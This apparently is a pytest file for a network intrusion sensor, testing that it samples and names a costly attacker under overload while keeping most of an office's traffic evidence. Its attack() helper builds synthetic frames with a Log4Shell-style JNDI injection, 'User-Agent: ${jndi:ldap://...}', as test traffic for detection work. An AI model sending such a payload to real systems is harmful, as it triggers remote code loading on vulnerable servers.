"""`sensor run` in an overload: its source is sampled and named, and the evidence of others is there."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import live
import pytest
from frames import IPV4, TCP, ethernet, ipv4, tcp
from live import METRICS, SENSOR, ask_until, replay, running, wait_until_received
from overloaded_sensor import COST_S, COSTLY
from test_run import Network, assert_law, frames_of, read_of
from test_workers import ALL_KEPT, in_background, write

from sensor.bench.traffic import mix
from sensor.metrics import catalogue as c
from sensor.metrics.figures import Figures

pytestmark = [pytest.mark.kernel, pytest.mark.usefixtures("use_few_rules", "slowed")]

ATTACKER = "10.66.66.66"
ROUNDS = 5
"""Times that the office's traffic is sent."""
ATTACKS = 12_000
SECONDS = 12
RING = ("--ring-mib", "1")


@pytest.fixture
def slowed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the sensor take its time for the attacker's packets."""
    program = Path(__file__).with_name("overloaded_sensor.py")
    monkeypatch.setattr(live, "SENSOR", [sys.executable, str(program)])


@pytest.fixture
def office() -> list[bytes]:
    """Return an office's traffic with attacks in it."""
    return [frame.data for frame in mix.demo(seed=1).frames] * ROUNDS


def attack(number: int) -> bytes:
    """Return a frame of the attacker, which has 10,000 ports; rules match it, and it asks for five CPUs."""
    payload = b"GET /%d HTTP/1.1\r\nUser-Agent: ${jndi:ldap://%b}\r\n\r\n" % (number, COSTLY)
    segment = tcp(payload, sport=2000 + number % 10_000, dport=8080)
    return ethernet(IPV4, ipv4(TCP, segment, source=ATTACKER, destination="198.51.100.10"))


def interleaved(office: list[bytes], attacks: int) -> list[bytes]:
    """Return both, evenly mixed."""
    numbered = [((number + 0.5) / len(office), frame) for number, frame in enumerate(office)]
    numbered += [((number + 0.5) / attacks, attack(number)) for number in range(attacks)]
    return [frame for _, frame in sorted(numbered, key=lambda pair: pair[0])]


def of_the_office(paths: list[Path]) -> list[bytes]:
    """Return the evidence that is not the attacker's."""
    packed = bytes(map(int, ATTACKER.split(".")))
    return [frame for frame in frames_of(paths) if packed not in frame[26:34]]


def test_the_office_is_matched_beside_an_attacker(
    network: Network, tmp_path: Path, office: list[bytes]
) -> None:
    """At least 95 % of its evidence is there; metrics, status and the log name the attacker."""
    assert COST_S * ATTACKS / SECONDS >= 5  # CPUs, all of one worker's ring
    path = write(tmp_path / "both.pcap", interleaved(office, ATTACKS))
    total = len(office) + ATTACKS
    _, expected = read_of(write(tmp_path / "office.pcap", office), tmp_path / "read", *ALL_KEPT)
    with running(network[0], tmp_path / "live", "--metrics", METRICS, *RING, *ALL_KEPT) as run:
        with in_background(lambda: replay(network[1], path, pps=total // SECONDS)):
            ask_until(names_attacker)
            shown, listed = status("--once"), json.loads(status("--json"))
        wait_until_received(network[0], total)
        assert run.stop() == 0
    counters = assert_law(run)
    assert counters.seen == total
    assert counters.sampled > 0
    found = of_the_office(run.files)
    assert len(found) >= 0.95 * len(frames_of(expected))
    assert ATTACKER in shown
    assert listed["costly_sources"][ATTACKER]["cpu_ratio"] > 1
    begun = [line for line in run.log if "overload:" in line]
    assert sum(ATTACKER in line for line in begun) == 1


def names_attacker(figures: Figures) -> bool:
    """Return True if the metrics name the attacker as a source that is sampled."""
    matched = figures.by("address", c.COSTLY_MATCHED)
    return matched.get(ATTACKER, 1.0) < 1 and bool(figures.total(c.SAMPLED))


def status(flag: str) -> str:
    """Return what `sensor status` shows."""
    return subprocess.run([*SENSOR, "status", flag], check=True, capture_output=True, text=True).stdout


def test_the_office_alone_is_never_sampled(network: Network, tmp_path: Path, office: list[bytes]) -> None:
    """All of its evidence is there, and its sources are not called costly."""
    path = write(tmp_path / "office.pcap", office)
    _, expected = read_of(path, tmp_path / "read", *ALL_KEPT)
    with running(network[0], tmp_path / "live", *RING, *ALL_KEPT) as run:
        replay(network[1], path, pps=len(office) // SECONDS)
        wait_until_received(network[0], len(office))
        assert run.stop() == 0
    counters = assert_law(run)
    assert (counters.seen, counters.submit_failed, counters.sampled) == (len(office), 0, 0)
    assert sorted(frames_of(run.files)) == sorted(frames_of(expected))
    assert not any("overload" in line for line in run.log)


def test_a_burst_that_fits_the_ring_is_matched(network: Network, tmp_path: Path, office: list[bytes]) -> None:
    """Costly packets are not sampled as long as there is room for all, nor while the sensor stops."""
    path = write(tmp_path / "both.pcap", interleaved(office[:1000], 200))
    with running(network[0], tmp_path / "live", *RING, *ALL_KEPT) as run:
        replay(network[1], path)
        wait_until_received(network[0], 1200)
        assert run.stop() == 0
    counters = assert_law(run)
    assert (counters.seen, counters.submit_failed, counters.sampled) == (1200, 0, 0)
    attacks = [frame for frame in frames_of(run.files) if COSTLY in frame]
    assert len(attacks) == 200
